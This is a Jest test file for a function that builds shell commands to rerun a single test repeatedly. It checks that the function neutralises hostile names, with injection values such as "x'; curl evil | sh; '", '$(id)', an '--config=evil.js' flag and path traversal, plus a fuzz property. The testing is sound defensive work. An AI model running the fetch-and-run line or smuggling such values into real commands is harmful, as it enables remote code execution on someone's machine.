import { expect, test } from '@jest/globals'
import { codePoint } from '@tocsin/testkit/texts'
import fc from 'fast-check'
import { reproduceCommand } from './reproduce.ts'

const of = (file: string | undefined, name = 'pays') =>
  reproduceCommand({ ...(file !== undefined && { file }), test: { suites: [], className: '', name } })

test.each<[file: string | undefined, name: string, command: string | undefined]>([
  ['src/checkout.test.ts', 'pays', "for i in $(seq 20); do npx jest src/checkout.test.ts -t 'pays' || break; done"],
  ['./src/checkout.spec.js', 'pays', "for i in $(seq 20); do npx jest src/checkout.spec.js -t 'pays' || break; done"],
  ['tests/test_checkout.py', 'test_pays', "for i in $(seq 20); do pytest tests/test_checkout.py -k 'test_pays' || break; done"],
  ['pkg/shop/checkout_test.go', 'TestPays', "go test ./pkg/shop -run 'TestPays' -count=20 -race"],
  ['checkout_test.go', 'TestPays', "go test ./. -run 'TestPays' -count=20 -race"],
  ['spec/checkout_spec.rb', 'pays', 'for i in $(seq 20); do bundle exec rspec spec/checkout_spec.rb || break; done'],
  ['src/test/java/a/CheckoutTest.java', 'pays', "for i in $(seq 20); do mvn -q test -Dtest='CheckoutTest' || break; done"],
  ['src/checkout.test.ts', "x'; curl evil | sh; '", 'for i in $(seq 20); do npx jest src/checkout.test.ts || break; done'],
  ['src/checkout.test.ts', '$(id)', 'for i in $(seq 20); do npx jest src/checkout.test.ts || break; done'],
  ['src/checkout.test.ts', '--config=evil.js', 'for i in $(seq 20); do npx jest src/checkout.test.ts || break; done'],
  ['src/$(id).test.ts', 'pays', undefined],
  ['-x.test.ts', 'pays', undefined],
  ['../../x.test.ts', 'pays', undefined],
  ['src/checkout.c', 'pays', undefined],
  [undefined, 'pays', undefined]
])('%s, %s', (file, name, command) => expect(of(file, name)).toBe(command))

test('whatever a stranger calls a test or its file, no shell takes it for more than a name', () => {
  fc.assert(
    fc.property(fc.string({ unit: codePoint }), fc.string({ unit: codePoint }), (file, name) => {
      const command = of(`${file}.test.ts`, name) ?? ''
      expect(command.replace(/^for i in \$\(seq 20\); do npx jest [\w./-]+(?: -t '[\w ./:,>#-]+')? \|\| break; done$/, '')).toBe('')
    })
  )
})
